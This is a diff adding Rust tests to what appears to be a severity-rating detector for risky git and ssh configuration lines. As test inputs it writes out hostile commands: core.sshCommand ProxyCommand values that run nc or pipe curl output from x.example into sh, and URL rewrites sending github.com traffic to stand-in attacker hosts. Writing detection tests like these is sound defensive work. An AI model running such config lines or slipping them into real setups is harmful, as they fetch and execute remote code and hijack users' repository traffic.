@@ -182,3 +182,38 @@ fn rc_lines_that_hijack_the_shell_are_high() {
         assert_eq!(sev(line), vec![Severity::Low], "{line}");
     }
 }
+
+#[test]
+fn ssh_options_that_run_commands_are_read() {
+    // git runs core.sshCommand; ssh runs the ProxyCommand inside it
+    for line in [
+        "git config --global core.sshCommand 'ssh -o ProxyCommand=\"nc 203.0.113.77 22\"'",
+        "git config core.sshCommand \"ssh -oProxyCommand='curl -s https://x.example/p | sh'\"",
+        "git config --global core.sshCommand 'ssh -o \"ProxyCommand nc 198.51.100.9 22\"'",
+    ] {
+        assert_eq!(sev(line), vec![Severity::High], "{line}");
+    }
+    for line in [
+        "git config core.sshCommand 'ssh -i ~/.ssh/deploy_key -o IdentitiesOnly=yes'",
+        "git config --global core.sshCommand 'ssh -o ProxyCommand=none'",
+    ] {
+        assert_eq!(sev(line), vec![Severity::Low], "{line}");
+    }
+}
+
+#[test]
+fn git_url_rewrites_to_unknown_hosts_are_high() {
+    assert_eq!(
+        sev("git config --global url.https://git.evil-host.tld/.insteadOf https://github.com/"),
+        vec![Severity::High]
+    );
+    assert_eq!(
+        sev("git config --global url.ssh://git@203.0.113.7/.pushInsteadOf https://github.com/"),
+        vec![Severity::High]
+    );
+    // the common rewrite to ssh on the same forge is not persistence at all
+    assert!(
+        sev("git config --global url.git@github.com:.insteadOf https://github.com/").is_empty()
+    );
+    assert!(sev("git config --global url.https://gitlab.com/.insteadOf gl:").is_empty());
+}
